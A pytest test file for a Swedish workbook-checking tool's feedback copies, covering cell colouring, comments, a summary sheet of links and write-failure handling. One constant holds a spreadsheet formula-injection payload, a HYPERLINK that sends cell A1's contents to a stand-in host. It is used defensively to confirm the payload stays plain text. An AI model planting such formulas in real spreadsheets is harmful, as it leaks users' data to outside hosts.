"""Feedback copies: wrong cells red or yellow with a Swedish comment, a first sheet of links,
source untouched."""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import Result

from consolidate.catalog import Catalog
from consolidate.feedback import write_feedback
from consolidate.periods import Period
from consolidate.run import check_files
from test_validate import base_values

T2 = Period(2025, 2)
RED, YELLOW, INPUT = "FFC7CE", "FFEB9C", "FFF2CC"
INJECTION = '=HYPERLINK("http://example.com/?q="&A1,"Klicka här")'


def typed_as_text(path: Path, sheet: str, ref: str, text: str) -> None:
    """A comment that looks like a formula but was typed as text (Excel stores it as a string)."""
    wb = openpyxl.load_workbook(path)
    cell = wb[sheet][ref]
    cell.value = text
    cell.data_type = "s"
    wb.save(path)


def fill_rgb(cell: Any) -> str:
    return str(cell.fill.fgColor.rgb)[-6:] if cell.fill and cell.fill.fill_type == "solid" else ""


@pytest.fixture(scope="module")
def round1(tmp_path_factory: pytest.TempPathFactory, catalog: Catalog,
           template_cache: Callable[[str, str], Path]) -> dict[str, Any]:
    """check --feedback over a folder: one file with an error and a warning, one merged, one
    valid."""
    from click.testing import CliRunner

    from consolidate.cli import cli

    from conftest import fill

    root = tmp_path_factory.mktemp("feedback")
    folder = root / "inlamning"
    base = base_values(catalog, "forebyggande", T2)
    wrong = fill(template_cache("forebyggande", "2025-T2"),
                 {**base, "tab_arenden_per_kalla_bun_andel": 0.63,
                  "ind_forebyggande_insatser_varde": 25000},
                 folder / "2025-T2_forebyggande.xlsx")
    typed_as_text(wrong, "Indikatorer", "I6", INJECTION)
    merged = fill(template_cache("barn_unga", "2025-T2"), base_values(catalog, "barn_unga", T2),
                  folder / "2025-T2_barn_unga.xlsx")
    wb = openpyxl.load_workbook(merged)
    wb["Indikatorer"].merge_cells("D7:E7")
    wb.save(merged)
    valid = fill(template_cache("vuxen", "2025-T2"), base_values(catalog, "vuxen", T2),
                 folder / "2025-T2_vuxen.xlsx")
    before = {p: p.read_bytes() for p in (wrong, merged, valid)}
    out = root / "aterkoppling"
    result = CliRunner().invoke(cli, ["check", str(folder), "--feedback", str(out), "--json"],
                                catch_exceptions=False)
    return {"root": root, "folder": folder, "out": out, "result": result, "before": before,
            "wrong": wrong}


def test_sources_are_never_modified(round1: dict[str, Any]) -> None:
    for path, data in round1["before"].items():
        assert path.read_bytes() == data
    assert sorted(p.name for p in round1["folder"].iterdir()) == [
        "2025-T2_barn_unga.xlsx", "2025-T2_forebyggande.xlsx", "2025-T2_vuxen.xlsx"]


def test_one_copy_per_checked_workbook(round1: dict[str, Any]) -> None:
    assert round1["result"].exit_code == 1
    assert sorted(p.name for p in round1["out"].iterdir()) == [
        "2025-T2_barn_unga_återkoppling.xlsx", "2025-T2_forebyggande_återkoppling.xlsx",
        "2025-T2_vuxen_återkoppling.xlsx"]


def test_wrong_cells_coloured_and_commented(round1: dict[str, Any]) -> None:
    wb = openpyxl.load_workbook(round1["out"] / "2025-T2_forebyggande_återkoppling.xlsx")
    share = wb["Ärenden per källa"]["C7"]
    assert fill_rgb(share) == RED
    assert share.comment is not None and share.comment.text.startswith("FEL: BUN: andel: 63")
    assert "stämmer inte" in share.comment.text
    warn = wb["Indikatorer"]["D6"]
    assert fill_rgb(warn) == YELLOW
    assert (warn.comment is not None and "VARNING" in warn.comment.text
            and "rimliga intervallet" in warn.comment.text)
    # Cells without findings keep the template's input colour and get no comment.
    ok = wb["Ärenden per källa"]["C6"]
    assert fill_rgb(ok) == INPUT and ok.comment is None
    assert wb["Ärenden per källa"]["C7"].value == 0.63  # the values stay as typed


def test_first_sheet_lists_findings_with_links(round1: dict[str, Any]) -> None:
    wb = openpyxl.load_workbook(round1["out"] / "2025-T2_forebyggande_återkoppling.xlsx")
    assert wb.sheetnames[0] == "Återkoppling"
    ws = wb["Återkoppling"]
    assert [c.value for c in ws[1]] == ["Allvarlighet", "Flik", "Cell", "Regel", "Meddelande"]
    rows = [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
    assert [(r[0], r[1], r[2]) for r in rows] == [("varning", "Indikatorer", "D6"),
                                                  ("fel", "Ärenden per källa", "C7")]
    assert rows[1][3] == "Andelen stämmer inte med antalet"
    link = ws["C3"].hyperlink
    assert link is not None and link.location == "'Ärenden per källa'!C7"
    assert ws["C2"].hyperlink.location == "'Indikatorer'!D6"
    # The report's findings are the ones listed.
    data = json.loads(round1["result"].stdout)
    listed = sorted((f["flik"], f["cell"]) for f in data["fynd"]
                    if f["fil"] == "2025-T2_forebyggande.xlsx")
    assert listed == sorted((r[1], r[2]) for r in rows)


def test_text_that_looks_like_a_formula_stays_text(round1: dict[str, Any]) -> None:
    path = round1["out"] / "2025-T2_forebyggande_återkoppling.xlsx"
    cell = openpyxl.load_workbook(path)["Indikatorer"]["I6"]
    assert cell.value == INJECTION and cell.data_type == "s"
    with zipfile.ZipFile(path) as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.endswith(".xml"))
    assert b"<f>HYPERLINK" not in xml and b"<f>=HYPERLINK" not in xml  # never a formula ...
    assert xml.count(b"=HYPERLINK(") == 1  # ... the typed text, kept once as a string


def test_valid_workbook_gets_a_thank_you(round1: dict[str, Any]) -> None:
    ws = openpyxl.load_workbook(round1["out"] / "2025-T2_vuxen_återkoppling.xlsx")["Återkoppling"]
    assert ws["E2"].value == "Inga fel eller varningar. Tack!"


def test_merged_input_cell_is_marked_on_the_merge(round1: dict[str, Any]) -> None:
    wb = openpyxl.load_workbook(round1["out"] / "2025-T2_barn_unga_återkoppling.xlsx")
    anchor = wb["Indikatorer"]["D7"]
    assert (fill_rgb(anchor) == RED and anchor.comment is not None
            and "sammanfogade" in anchor.comment.text)
    rows = [[c.value for c in row] for row in wb["Återkoppling"].iter_rows(min_row=2)]
    assert [(r[0], r[1], r[2]) for r in rows] == [("fel", "Indikatorer", "E7")]


def test_returned_feedback_copy_is_read_and_can_be_corrected(
        round1: dict[str, Any], catalog: Catalog, tmp_path: Path, invoke: Callable[..., Result],
        unchanged: Callable[[Path], None]) -> None:
    """A unit head corrects the marked cells in the copy and hands it in again."""
    copy = round1["out"] / "2025-T2_forebyggande_återkoppling.xlsx"
    first = check_files([copy], catalog)
    assert sorted((f.code, f.cell) for f in first.all_findings()) == [("andel_antal", "C7"),
                                                                      ("orimligt", "D6")]
    returned = tmp_path / "inlamning" / copy.name
    returned.parent.mkdir()
    wb = openpyxl.load_workbook(copy)
    wb["Ärenden per källa"]["C7"] = 0.61
    wb.save(returned)
    unchanged(returned)
    result = invoke("check", returned, "--feedback", tmp_path / "runda2")
    assert result.exit_code == 0, result.output
    again = openpyxl.load_workbook(tmp_path / "runda2" / copy.name)
    corrected = again["Ärenden per källa"]["C7"]
    assert fill_rgb(corrected) == INPUT and corrected.comment is None
    assert fill_rgb(again["Indikatorer"]["D6"]) == YELLOW
    assert [ws.title for ws in again.worksheets].count("Återkoppling") == 1


def test_feedback_never_overwrites_the_submission(round1: dict[str, Any], tmp_path: Path,
                                                  catalog: Catalog,
                                                  unchanged: Callable[[Path], None]) -> None:
    returned = tmp_path / "2025-T2_forebyggande_återkoppling.xlsx"
    returned.write_bytes((round1["out"] / returned.name).read_bytes())
    unchanged(returned)
    checked = check_files([returned], catalog)
    assert write_feedback(returned, checked.all_findings(), tmp_path) is None
    assert sorted(p.name for p in tmp_path.iterdir()) == [returned.name]


def test_feedback_never_overwrites_another_input(tmp_path: Path, filled: Callable[..., Path],
                                                 catalog: Catalog,
                                                 unchanged: Callable[[Path], None]) -> None:
    """A unit head saved a corrected workbook under the feedback copy's name in the same folder."""
    source = filled("vuxen", "2025-T2", base_values(catalog, "vuxen", T2))
    other = filled("vuxen", "2025-T2", base_values(catalog, "vuxen", T2),
                   name="2025-T2_vuxen_återkoppling.xlsx")
    unchanged(tmp_path)
    assert write_feedback(source, [], tmp_path, inputs=[source, other]) is None
    written = write_feedback(source, [], tmp_path / "ut", inputs=[source, other])
    assert written == tmp_path / "ut" / "2025-T2_vuxen_återkoppling.xlsx"


def test_a_feedback_folder_that_cannot_be_written_is_said_before_reading(
        tmp_path: Path, filled: Callable[..., Path], catalog: Catalog,
        invoke: Callable[..., Result], unchanged: Callable[[Path], None]) -> None:
    """A folder under a regular file can be made by nobody, root included, on Linux as on
    Windows."""
    source = filled("vuxen", "2025-T2", base_values(catalog, "vuxen", T2))
    unchanged(source)
    blocker = tmp_path / "anteckning.txt"
    blocker.write_text("inte en mapp\n", encoding="utf-8")
    target = blocker / "återkoppling"
    result = invoke("check", source, "--feedback", target)  # an exception would fail the test
    assert result.exit_code == 2
    assert f"Återkopplingsmappen {target} går inte att skriva i" in result.output
    assert "en del av sökvägen är en fil" in result.output
    assert "OK" not in result.output  # nothing was read before the folder was refused


def test_a_copy_that_cannot_be_written_is_named_and_the_others_are_written(
        tmp_path: Path, filled: Callable[..., Path], catalog: Catalog,
        invoke: Callable[..., Result]) -> None:
    folder = tmp_path / "inlamning"
    for unit in ("vuxen", "barn_unga"):
        filled(unit, "2025-T2", base_values(catalog, unit, T2), folder=folder)
    out = tmp_path / "ut"
    (out / "2025-T2_vuxen_återkoppling.xlsx").mkdir(parents=True)  # in the way of one copy
    result = invoke("check", folder, "--feedback", out)
    assert result.exit_code == 2
    assert (f"Återkopplingskopian för 2025-T2_vuxen.xlsx kunde inte skrivas i mappen {out}"
            in result.output)
    assert (out / "2025-T2_barn_unga_återkoppling.xlsx").is_file()
